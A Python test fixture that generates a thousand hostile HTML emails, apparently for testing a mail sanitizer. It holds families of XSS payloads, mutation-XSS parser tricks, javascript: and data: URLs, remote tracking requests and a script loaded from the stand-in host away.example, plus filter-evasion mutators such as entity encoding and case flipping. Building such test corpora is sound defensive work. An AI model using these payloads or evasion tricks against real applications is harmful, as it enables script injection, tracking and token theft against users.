"""A thousand hostile HTML mails: families of attacks, nested, mutated and cut off, the same ones at every run.

RUN stands for a script that leaves a mark, AWAY for somebody else's server, and each mail begins with a word of its own,
so that it can be seen that nothing was swallowed.
"""

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

RUN = "window.owned=1"
AWAY = "http://away.example"

FAMILIES: dict[str, tuple[str, ...]] = {
    "scripts": (
        f"<script>{RUN}</script>",
        f"<script src={AWAY}/x.js></script>",
        f"<script type=module>{RUN}</script>",
        f"<SCRIPT/x>{RUN}</SCRIPT >",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script\n>{RUN}//<!--</script>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href={AWAY}/x.js /></svg>",
        f"<script>{RUN}",
        f"<math><script>{RUN}</script></math>",
        f"<noscript><script>{RUN}</script></noscript>",
        f'<script type="speculationrules">{{"prefetch":[{{"urls":["{AWAY}/p"]}}]}}</script>',
        f'<script type="importmap">{{"imports":{{"x":"{AWAY}/x.js"}}}}</script>',
    ),
    "event handlers": (
        f"<img src=x onerror={RUN}>",
        f"<img src=x onerror='{RUN}'>",
        f"<body onload={RUN}>",
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}>x</details>",
        f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}>",
        f"<marquee onstart={RUN}>x</marquee>",
        f"<a onmouseover={RUN} href=#>x</a>",
        f"<div onpointerrawupdate={RUN}>x</div>",
        f"<style onload={RUN}></style>",
        f"<p style=animation:x onanimationstart={RUN}>x</p>",
        f"<img src=x:x\nonerror\n=\n{RUN}>",
        f"<iframe onload={RUN}></iframe>",
        f"<object onerror={RUN}></object>",
        f"<select autofocus onfocus={RUN}></select>",
        f"<div hx-on:load={RUN} hx-on--load={RUN}>x</div>",
        f"<div data-hx-on:load={RUN} hx-trigger=load>x</div>",
        f"<div contenteditable onblur={RUN} autofocus>x</div>",
        f"<x onclick={RUN} id=x>x</x>",
        f"<img/src/onerror={RUN}>",
        f'<img title="><img src=x onerror={RUN}>">',
        f"<img src='x' oNeRrOr = \"{RUN}\">",
        f"<p onscrollend={RUN}>x</p>",
    ),
    "addresses that run": (
        f"<a href=javascript:{RUN}>x</a>",
        f"<a href='java\tscript:{RUN}'>x</a>",
        f"<a href='java\nscript:{RUN}'>x</a>",
        f"<a href=' \x01javascript:{RUN}'>x</a>",
        f"<a href='&#106;avascript:{RUN}'>x</a>",
        f"<a href='JaVaScRiPt:{RUN}'>x</a>",
        f"<a href='javascript&colon;{RUN}'>x</a>",
        f"<a href='&#x6A&#x61&#x76&#x61&#x73&#x63ript:{RUN}'>x</a>",
        f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
        f"<a href='vbscript:{RUN}'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg=='>x</a>",
        "<a href='blob:null/1'>x</a>",
        f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
        f"<form action=javascript:{RUN}><button>x</button></form>",
        f"<button formaction=javascript:{RUN}>x</button>",
        f"<iframe src=javascript:{RUN}></iframe>",
        f"<embed src=javascript:{RUN}>",
        f"<object data=javascript:{RUN}></object>",
        f"<math href=javascript:{RUN}>x</math>",
        f"<area href=javascript:{RUN}>",
        f"<svg><animate attributeName=href values=javascript:{RUN} /><a id=b>x</a></svg>",
        "<a href=//away.example>x</a>",
        f"<svg><set attributeName=onmouseover to={RUN}></set></svg>",
        "<a href='/settings'>x</a>",
        "<a href='\\\\away.example'>x</a>",
    ),
    "mutation": (
        f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
        f"<svg><desc><table><style><!--</style><img title='--><img src=x onerror={RUN}>'></table></desc></svg>",
        f"<template><style></template><img src=x onerror={RUN}></style>",
        f"<title><p title='</title><img src=x onerror={RUN}>'>",
        f"<textarea><p title='</textarea><img src=x onerror={RUN}>'></textarea>",
        f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
        f"<svg><foreignObject><iframe srcdoc='<img src=x onerror=parent.{RUN}>'></iframe></foreignObject></svg>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
        f"<select><style></select><img src=x onerror={RUN}></style></select>",
        f"<!--><img src=x onerror={RUN}>-->",
        f"<!--!><img src=x onerror={RUN}>--!>",
        f"<![CDATA[<img src=x onerror={RUN}>]]>",
        f"<?xml <img src=x onerror={RUN}>?>",
        f"<svg><![CDATA[</svg><img src=x onerror={RUN}>]]></svg>",
        f"<iframe><p title='</iframe><img src=x onerror={RUN}>'>",
        f"<noembed><p title='</noembed><img src=x onerror={RUN}>'></noembed>",
        f"<plaintext><img src=x onerror={RUN}>",
        f"<a href='x'<img src=x onerror={RUN}>>x</a>",
        f"<img alt='`<img src=x onerror={RUN}>`'>",
        f"<<img src=x onerror={RUN}>//<",
    ),
    "requests": (
        f"<img src={AWAY}/p.png>",
        f"<img srcset='{AWAY}/p.png 2x'>",
        f"<picture><source srcset={AWAY}/p.png><img></picture>",
        f"<video poster={AWAY}/p.png autoplay src={AWAY}/v></video>",
        f"<audio autoplay src={AWAY}/a></audio>",
        f"<link rel=stylesheet href={AWAY}/x.css>",
        f"<link rel=dns-prefetch href={AWAY}>",
        f"<link rel=preload as=image href={AWAY}/p>",
        f"<link rel=prerender href={AWAY}>",
        f"<body background={AWAY}/p.png>",
        f"<table background={AWAY}/p.png><tr><td>x</table>",
        f"<input type=image src={AWAY}/p.png>",
        f"<iframe src={AWAY}></iframe>",
        f"<object data={AWAY}></object>",
        f"<embed src={AWAY}>",
        f"<p style='background:url({AWAY}/p.png)'>x</p>",
        f"<style>@import '{AWAY}/x.css';</style>",
        f"<base href={AWAY}/><img src=p.png>",
        f"<style>@font-face{{font-family:x;src:url({AWAY}/f)}}*{{font-family:x}}</style>",
        f"<meta http-equiv=refresh content='0;url={AWAY}'>",
        f"<svg><image href={AWAY}/p.png /></svg>",
        f"<svg><use href={AWAY}/x.svg#x /></svg>",
        f"<svg><feImage href={AWAY}/p /></svg>",
        f"<a href={AWAY} ping={AWAY}/ping>x</a>",
        f"<track src={AWAY}/t default>",
        f"<bgsound src={AWAY}/s>",
        f"<image src={AWAY}/p.png>",
        f"<div hx-get={AWAY} hx-trigger=load>x</div>",
        "<div data-hx-get=/settings data-hx-trigger=load>x</div>",
        f"<form id=f action={AWAY} method=post><input name=csrf_token></form>",
        f"<portal src={AWAY}></portal>",
        f"<img lowsrc={AWAY}/p>",
        f"<p style=\"list-style-image:url('{AWAY}/p')\">x</p>",
        f"<p style='background:image-set(\"{AWAY}/p\" 1x)'>x</p>",
        f"<fencedframe src={AWAY}></fencedframe>",
        f'<div style="width:expression({RUN})">x</div>',
        f"<img src='cid:x' src={AWAY}/p>",
    ),
    "overlays": (
        "<div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>",
        "<p style='margin:-9999px'>x</p>",
        "<div style='position:absolute;top:0;left:0;width:9999px;height:9999px'>x</div>",
        "<p style='transform:scale(90)'>x</p>",
        "<style>body{display:none}nav{visibility:hidden}</style>",
        "<dialog open>x</dialog>",
        "<div popover id=pop>x</div>",
        "<a href=/settings style='position:fixed;inset:0;opacity:0'>x</a>",
        "<font size=99999>x</font>",
        "<h1 style=font-size:9000px>x</h1>",
        "<div class=side>x</div>",
        "<nav class='head who'>x</nav>",
        "<button class='button primary'>x</button>",
        "<div slot=x part=y>x</div>",
        "<table width=99999 height=99999 border=99><tr><td width=99999 nowrap>x</td></tr></table>",
        "<marquee width=9999>x</marquee>",
        "<pre>" + "x" * 5000 + "</pre>",
        "<img src=cid:none width=9999 height=9999>",
        "<td colspan=9999>x</td>",
        "</div></div></article></main>",
        "</body></html>",
        "<center><blink>x</blink></center>",
        "<details open><summary>x</summary>x</details>",
        "<hr width=99999 size=9999>",
        "<p dir=rtl>\u202e\u2066x\u202e</p>",
        "<bdo dir=rtl>x</bdo>",
        "<li value=99999999>x</li>",
        "<ol start=99999><li>x</ol>",
        "<div style='contain:none;overflow:visible;float:left;width:500vw'>x</div>",
        "<frameset rows=100%><frame src=/settings></frameset>",
        "Z" + "\u0300" * 400 + "algo",
        "\u200b" * 3000,
        "<table>" + "<tr>" + "<td>x</td>" * 80 + "</tr></table>",
        "<plaintext>x",
    ),
    "clobbering": (
        "<form id=csrf_token name=csrf_token><input name=attributes><input name=parentNode></form>",
        "<img name=getElementById src=cid:x>",
        "<a id=htmx></a><a id=htmx name=config href=tel:1>x</a>",
        "<form name=body><input name=firstChild></form>",
        "<img id=notes name=cookie>",
        "<iframe name=self srcdoc=x></iframe>",
        "<input name=csrf_token value=x form=f>",
        "<label for=q accesskey=s tabindex=1>x</label>",
        "<object name=document></object>",
        "<a name=location href=https://away.example>x</a>",
        "<output form=f name=x>x</output>",
        "<meta name=csrf-token content=x>",
        "<p id=hours-sum>0 Kč</p>",
        "<div itemscope itemid=x aria-label=x role=alert>x</div>",
    ),
}

WRAPS = (
    "<div>{}</div>",
    "<blockquote type=cite>{}</blockquote>",
    "<table><tr><td>{}</td></tr></table>",
    "<svg>{}</svg>",
    "<math>{}</math>",
    "<p><b><i>{}",
    "<font>{}</font>",
    "<ul><li>{}</ul>",
    "<pre>{}</pre>",
    "<!-- x -->{}<!-- x -->",
    "<![if !mso]>{}<![endif]>",
    "<!--[if mso]>{}<![endif]-->",
    "<o:p>{}</o:p>",
    "<template>{}</template>",
    "<noscript>{}</noscript>",
    "<select>{}</select>",
    "<a href=https://ok.example>{}</a>",
    "<html><head>{}</head><body>x</body></html>",
    "<center>{}",
    "<object>{}</object>",
    "</td></tr></table>{}",
    "<div style='{}'>x</div>",
    "<textarea>{}</textarea>",
    "<iframe>{}</iframe>",
    "<details>{}</details>",
    "<h1>{}",
    "{}<",
    "<div <div {}",
)


@dataclass(frozen=True, slots=True)
class HostileMail:
    """family says what it tries; first is a word of its own."""

    number: int
    family: str
    html: str

    @property
    def first(self) -> str:
        return f"zacatek{self.number:04}"


def mails(many: int = 1000, seed: int = 20261126) -> Iterator[HostileMail]:
    """Every payload as it is, then mixtures of several, wrapped and mutated."""
    chance = random.Random(seed)
    plain = [(family, payload) for family, payloads in FAMILIES.items() for payload in payloads]
    for number in range(many):
        if number < len(plain):
            family, html = plain[number]
        else:
            picked = chance.sample(plain, chance.randint(1, 3))
            family = " + ".join(family for family, _ in picked)
            html = "".join(_mutated(payload, chance) for _, payload in picked)
        yield HostileMail(number, family, f"<p>zacatek{number:04}</p>{html}<p>konec{number:04}</p>")


def _mutated(payload: str, chance: random.Random) -> str:
    for _ in range(chance.randint(0, 2)):
        payload = chance.choice(_MUTATIONS)(payload, chance)
    for _ in range(chance.randint(0, 3)):
        payload = chance.choice(WRAPS).replace("{}", payload)
    return payload


def _other_case(payload: str, chance: random.Random) -> str:
    """Tags and attributes shouted here and there; the script's own words stay."""
    return RUN.join(
        "".join(chance.choice((str.upper, str.lower))(letter) for letter in part) for part in payload.split(RUN)
    )


def _spaced(payload: str, chance: random.Random) -> str:
    return payload.replace(" ", chance.choice(("\n", "\t", "/", "\f", " \x00", "\r\n", "  ")), 1)


def _cut_off(payload: str, chance: random.Random) -> str:
    return payload[: chance.randint(len(payload) // 2, len(payload))]


def _doubled(payload: str, chance: random.Random) -> str:
    place = chance.randint(0, len(payload))
    return payload[:place] + payload + payload[place:]


def _encoded(payload: str, chance: random.Random) -> str:
    """One letter as an entity, as filters often forget to read it."""
    place = chance.randrange(len(payload))
    form = chance.choice(("&#{};", "&#x{:x};", "&#{:07d}"))
    return payload[:place] + form.format(ord(payload[place])) + payload[place + 1 :]


def _deep(payload: str, chance: random.Random) -> str:
    tag = chance.choice(("div", "b", "table", "blockquote", "span", "svg"))
    return f"<{tag}>" * 60 + payload


_MUTATIONS: tuple[Callable[[str, random.Random], str], ...] = (
    _other_case,
    _spaced,
    _cut_off,
    _doubled,
    _encoded,
    _deep,
)
